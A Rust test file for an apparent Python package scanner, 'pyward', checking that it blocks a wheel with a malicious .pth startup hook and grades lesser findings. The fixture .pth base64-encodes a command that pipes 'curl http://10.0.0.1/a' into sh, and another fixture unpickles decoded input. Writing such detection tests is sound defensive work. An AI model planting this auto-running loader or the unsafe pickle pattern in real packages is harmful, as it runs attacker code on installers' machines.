//! The code scan: a package whose .pth file runs decoded code at every
//! interpreter start (the pattern of the 2024 `litellm`-style .pth attacks)
//! is refused before anything is installed; `pyward scan` says the same.

mod common;

use common::{publish, text, Fixture};
use pyward_testkit::index::TestIndex;
use pyward_testkit::wheel::WheelBuilder;

fn evil() -> WheelBuilder {
    WheelBuilder::new("startup-helper", "1.0")
        .file("startup_helper/__init__.py", b"".to_vec())
        .file(
            "startup_helper_init.pth",
            b"import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8vMTAuMC4wLjEvYSB8IHNoIik='))\n".to_vec(),
        )
}

#[test]
fn a_pth_that_runs_decoded_code_is_refused() {
    let mut index = TestIndex::new();
    publish(&mut index, "startup-helper", evil());
    let fx = Fixture::new(index);
    let before = fx.snapshot();
    let out = fx.install(&["startup-helper", "--allow", "startup-helper"]);
    let all = text(&out);
    assert_eq!(out.status.code(), Some(1), "{all}");
    assert!(all.contains("startup_helper_init.pth"), "{all}");
    assert!(all.contains("no code from it ran"), "{all}");
    assert_eq!(before, fx.snapshot());

    let path = evil().build().write_to(fx.dir.path());
    let out = fx.pyward(&["scan", path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let out = fx.pyward(&["scan", "--json", path.to_str().unwrap()]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert!(!v[0]["findings"].as_array().expect("findings").is_empty());
}

#[test]
fn an_ordinary_package_scans_clean_and_installs() {
    let mut index = TestIndex::new();
    publish(
        &mut index,
        "plain",
        WheelBuilder::new("plain", "1.0").file(
            "plain/__init__.py",
            b"import socket\n\ndef ping(host):\n    return socket.create_connection((host, 80))\n"
                .to_vec(),
        ),
    );
    let fx = Fixture::new(index);
    let out = fx.install(&["plain"]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        text(&out).contains("nothing suspicious in 1 package"),
        "{}",
        text(&out)
    );
}

/// A cache backend that unpickles what it decodes (Moderate: context, shown
/// with advice that fits it) and a client that names a bare IP address next
/// to network code (Low: kept for `pyward scan` and --json, not printed).
fn cache_library() -> WheelBuilder {
    WheelBuilder::new("cachelib", "1.0")
        .file(
            "cachelib/backend.py",
            b"import base64, pickle\n\ndef load(value):\n    return pickle.loads(base64.b64decode(value))\n".to_vec(),
        )
        .file(
            "cachelib/net.py",
            b"import socket\n\nDEFAULT = '10.1.2.3'\n\ndef connect(host=DEFAULT):\n    return socket.create_connection((host, 11211))\n".to_vec(),
        )
}

#[test]
fn findings_that_do_not_block_read_as_context_and_low_ones_stay_out_of_the_install() {
    let mut index = TestIndex::new();
    publish(&mut index, "cachelib", cache_library());
    let fx = Fixture::new(index);
    let out = fx.install(&["cachelib"]);
    let all = text(&out);
    assert!(out.status.success(), "{all}");
    let path = cache_library().build().write_to(fx.dir.path());
    let out = fx.pyward(&["scan", "--json", path.to_str().unwrap()]);
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    let findings = v[0]["findings"].as_array().expect("findings").clone();
    let severities: Vec<&str> = findings
        .iter()
        .filter_map(|f| f["severity"].as_str())
        .collect();
    assert!(severities.contains(&"moderate"), "{findings:?}");
    for f in &findings {
        let title = f["title"].as_str().unwrap_or_default();
        match f["severity"].as_str() {
            Some("low") | Some("info") => {
                assert!(!all.contains(title), "a low finding was printed: {all}")
            }
            _ => assert!(all.contains(title), "{all}"),
        }
    }
    assert!(!all.contains("do not install this package"), "{all}");
    assert!(all.contains("pyward scan cachelib --json"), "{all}");
}
